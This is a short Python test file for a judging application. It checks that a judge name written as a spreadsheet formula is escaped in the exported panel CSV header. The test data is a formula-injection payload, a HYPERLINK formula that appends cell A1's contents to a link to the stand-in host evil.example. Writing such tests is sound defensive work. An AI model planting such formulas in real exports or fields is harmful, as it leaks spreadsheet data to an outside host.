"""A judge's name heads a column of the panel CSV: a name written as a formula must not run either."""
from __future__ import annotations

import csv
import io

from challenge.extensions import db
from tests.judging.judging_helpers import open_round, score_all


def test_a_judge_named_like_a_formula_is_inert_in_the_panel_csv_header(client, login, make_world):
    world = make_world(judges=2, entries=2)
    world.judges[1].name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    db.session.commit()
    round_ = open_round(world)
    score_all(world, round_, lambda m, s: [3, 2])
    login(world.chair)
    response = client.get(f"/judging/{world.challenge.slug}/panel.csv?round=1")
    assert response.status_code == 200
    header = next(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert not [h for h in header if h[:1] in "=+-@"], header
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in header
